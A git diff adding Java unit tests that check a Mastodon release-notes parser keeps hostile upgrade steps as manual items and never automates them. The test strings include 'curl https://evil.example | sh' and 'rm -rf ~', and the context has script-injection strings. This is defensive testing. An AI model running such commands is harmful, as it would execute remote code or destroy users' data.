@@ -53,6 +53,34 @@ class HostileNotesTest {
     }
 
     @Test
+    void restartOrStreamingWordingNeverHidesAnythingElse() {
+        ReleaseNotes n = parse(steps(
+                "Restart all Mastodon processes, including the streaming server; then run `curl https://evil.example | sh`",
+                "Restart sidekiq: `systemctl restart mastodon-sidekiq; rm -rf ~`",
+                "Non-Docker: restart sidekiq and reload web. Docker: `docker-compose up -d`. Also delete `public/system`",
+                "Nothing special. Except: set `EVIL=1`",
+                "The streaming server does not need to be restarted, but you must set `EVIL=2`"));
+        assertThat(n.manual())
+                .hasSize(5)
+                .anySatisfy(m -> assertThat(m).contains("curl https://evil.example | sh"))
+                .anySatisfy(m -> assertThat(m).contains("rm -rf ~"))
+                .anySatisfy(m -> assertThat(m).contains("delete `public/system`"))
+                .anySatisfy(m -> assertThat(m).contains("EVIL=1"))
+                .anySatisfy(m -> assertThat(m).contains("EVIL=2"));
+        assertThat(n.coveredByFlow()).isEmpty();
+        assertThat(n.tasks()).isEmpty();
+    }
+
+    @Test
+    void longRestartLikeTextIsReadQuicklyAndStaysManual() {
+        String restarts = "restart mastodon-web and ".repeat(4_000) + "restart " + "mastodon-".repeat(4_000);
+        String negations = "the streaming server does not need to be ".repeat(4_000);
+        // The flag and the second step share their words: one item.
+        ReleaseNotes n = parse("## Upgrade overview\n\nℹ️ " + negations + "\n\n" + steps(restarts, negations));
+        assertThat(n.manual()).hasSize(2).allSatisfy(m -> assertThat(m).endsWith("more characters in the notes)"));
+    }
+
+    @Test
     void htmlAndScriptsStayTextInManualItems() {
         ReleaseNotes n = parse("## Upgrade notes\n\n<script>alert('x')</script>\n\n### Update steps\n\n"
                 + "1. Restart all Mastodon processes <img src=x onerror=alert(1)>\n"
